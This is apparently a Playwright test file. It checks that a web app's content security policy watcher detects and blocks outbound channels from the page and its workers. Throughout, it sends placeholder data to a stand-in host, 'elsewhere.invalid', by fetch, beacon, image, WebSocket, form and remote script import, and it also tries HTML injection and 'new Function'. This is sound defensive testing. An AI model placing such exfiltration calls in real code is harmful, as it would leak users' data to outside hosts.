import { makeWorkbook } from '../src/import/fixtures/make-workbook';
import { choose, dialog, openLog, takeIn } from './import-journey';
import { expect, tellBreaches, test, type Page } from './journey';

/**
 * Whether the watch of journey.ts can see: each way out that a program has is tried here in the page's stead. All are
 * stopped by the browser, and each is told.
 */

// What harms or loses may not pass at a second try.
test.describe.configure({ retries: 0 });

const elsewhere = 'http://elsewhere.invalid/';

const waysOut: Readonly<Record<string, (page: Page) => Promise<unknown>>> = {
  'a request elsewhere': (page) =>
    page.evaluate((to) => fetch(to, { method: 'POST', body: 'fee' }).catch(() => null), elsewhere),
  'a beacon': (page) => page.evaluate((to) => navigator.sendBeacon(to, 'fee'), elsewhere),
  'an image elsewhere': (page) =>
    page.evaluate((to) => {
      new Image().src = `${to}?fee`;
    }, elsewhere),
  'a WebSocket': (page) =>
    page.evaluate(() => {
      try {
        return new WebSocket('ws://elsewhere.invalid/').url;
      } catch {
        return null;
      }
    }),
  'a form': (page) =>
    page.evaluate((to) => {
      const form = document.createElement('form');
      form.action = to;
      document.body.append(form);
      form.submit();
    }, elsewhere),
  'a script from elsewhere': (page) =>
    page.evaluate((to) => import(`${to}script.js`).catch(() => null), elsewhere),
  'text that becomes HTML': (page) =>
    page.evaluate(() => {
      try {
        document.body.innerHTML = '<b>text</b>';
      } catch {
        // Trusted Types throw
      }
    }),
  'a style written into the page': (page) =>
    page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = 'body { color: red }';
      document.head.append(style);
    }),
  'a worker of another making': (page) =>
    page.evaluate(() => {
      try {
        return typeof new Worker('./assets/other.js');
      } catch {
        return null;
      }
    }),
  'a query to the own host': (page) => page.evaluate(() => fetch('./terms/trtc.json?fee=12000')),
  'a body to the own host': (page) =>
    page.evaluate(() => fetch('./terms/trtc.json', { method: 'POST', body: 'fee' })),
  'a page that is no file': (page) =>
    page.evaluate(() => {
      window.location.href = './fee-12000';
    }),
  'a name that is no file': (page) => page.evaluate(() => fetch('./assets/fee-12000')),
};

for (const [name, take] of Object.entries(waysOut))
  test(`the watch sees ${name}`, async ({ page, watched }) => {
    await page.goto('./');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(watched.trespasses).toEqual([]);
    await take(page);
    await expect.poll(() => watched.trespasses.length).toBeGreaterThan(0);
    watched.trespasses.length = 0;
  });

/** From the worker's first line on: what is done at its start is over before the watch has reached it. */
async function watchWorkers(page: Page, code?: string): Promise<void> {
  await page.route(/\/(?!start-)[a-z-]*worker-[^/]*\.js$/, async (route) => {
    const response = await route.fetch();
    expect(response.headers()).toHaveProperty('content-security-policy');
    await route.fulfill({ response, body: `${tellBreaches}\n${code ?? (await response.text())}` });
  });
}

test.describe('in a worker', () => {
  test.use({ locale: 'en-GB' });

  for (const [name, code] of [
    ['a request elsewhere', `fetch('${elsewhere}', { method: 'POST', body: 'fee' });`],
    ['a request to the own host', "fetch('/fee-12000');"],
    ['code made of text', "new Function('return 1')();"],
  ] as const)
    test(`the watch sees ${name}`, async ({ page, watched }) => {
      await openLog(page);
      await watchWorkers(page, code);
      // No dialog opens: what runs in the worker's place answers nothing.
      const chooser = page.waitForEvent('filechooser');
      await page.getByRole('button', { name: 'Import files' }).click();
      const file = { name: 'a.csv', mimeType: 'text/csv', buffer: Buffer.from('Start,End\n') };
      await (await chooser).setFiles([file]);
      await expect.poll(() => watched.trespasses.length).toBeGreaterThan(0);
      watched.trespasses.length = 0;
    });

  test('tables, workbooks and records are read within the policy', async ({ page }) => {
    await openLog(page);
    await watchWorkers(page);
    const rows = [
      ['Start', 'End'],
      ['2026-03-21 10:00', '2026-03-21 10:30'],
    ];
    await choose(
      page,
      { name: 'log.csv', text: 'Start,End\n2026-03-20 10:00,2026-03-20 10:30\n' },
      { name: 'log.xlsx', text: makeWorkbook([{ name: 'Log', rows }]) },
    );
    await expect(takeIn(page)).toHaveText('Import 2 rows');
    await dialog(page).getByRole('button', { name: 'Cancel' }).click();
    const attempts = Array.from(
      { length: 40 },
      (_, row) => `2026-03-20 10:0${row % 10},${row < 8 ? 'failed' : 'ok'}`,
    );
    await choose(page, { name: 'records.csv', text: `time,status\n${attempts.join('\n')}\n` });
    await expect(dialog(page)).toContainText('40 records were read.');
  });
});
